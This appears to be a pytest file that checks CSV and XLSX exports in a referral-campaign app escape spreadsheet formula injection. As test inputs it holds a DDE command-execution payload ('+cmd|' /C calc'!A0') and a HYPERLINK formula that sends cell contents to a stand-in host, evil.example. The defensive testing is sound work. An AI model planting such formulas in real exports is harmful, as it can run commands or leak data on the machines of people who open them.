"""Formula injection: text that a spreadsheet would run (`=`, `+`, `-`, `@`, tab, CR first) comes
out of every CSV and XLSX export as text (liebian/cells.py)."""

from __future__ import annotations

import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from liebian.cells import safe_cell
from liebian.db.session import session_scope
from liebian.rewards import service
from liebian.web.app import create_app
from shared_helpers import export_csv, export_records

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # a number written as text stays a number
        ("+8613800000000", "+8613800000000"),
        ("plain", "plain"),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.fixture
def client(sqlite_store, admin_headers):
    with TestClient(create_app(), headers=admin_headers) as c:
        yield c


def test_reward_code_formula_is_text_in_payout_csv_and_xlsx(client):
    with session_scope() as s:
        reward = service.grant(
            s, campaign_id="c1", person_id=7, reward_code="=1+1", value_fen=100, reason="r",
            source_ref="o1", idempotency_key="k1", hold_until=None,
        )  # fmt: skip
        service.transition(s, reward.id, "approved", idempotency_key="ap", actor="op")
    r = client.get("/api/v1/payouts/export", params={"format": "csv"})
    (row,) = export_records(r.content)
    assert row["reward_code"] == "'=1+1"
    x = client.get("/api/v1/payouts/export", params={"format": "xlsx"})
    ws = load_workbook(io.BytesIO(x.content)).active
    header, values = list(ws.iter_rows())[:2]
    cell = values[[c.value for c in header].index("reward_code")]
    assert cell.data_type == "s" and cell.value == "'=1+1"


def test_campaign_title_formula_is_text_in_console_exports(client):
    form = {
        "_submitted": "1", "id": "evil", "type": "double_sided", "title": HYPERLINK,
        "rules_text": "每邀请一位新朋友完成首单即可获得奖励，每人最多邀请 5 位，奖励在退款期结束后发放。",
        "qualifying_event.kind": "first_order", "attribution": "first_touch", "poster_template": "classic",
        "inviter_reward.code": "INV", "inviter_reward.value_fen": "10", "friend_reward.code": "NEW",
        "friend_reward.value_fen": "5.50", "per_inviter_cap": "3", "per_device_cap": "2", "budget_fen": "2000",
        "hold_days": "7", "claim_window_days": "7", "invite_ttl_days": "30", "risk_policy.hold_at": "50",
        "risk_policy.block_at": "100", "require_new_friend": "on", "reward_value_disclosed": "on",
        "collects": "phone", "consent_step": "on",
    }  # fmt: skip
    assert client.post("/campaigns/new", data=form).status_code == 204
    (row,) = export_csv(client.get("/campaigns?export=campaigns&format=csv").content)[1:]
    assert row[1] == "'" + HYPERLINK
    x = client.get("/campaigns?export=campaigns&format=xlsx")
    ws = load_workbook(io.BytesIO(x.content)).active
    title = list(ws.iter_rows())[1][1]
    assert title.data_type == "s" and title.value == "'" + HYPERLINK
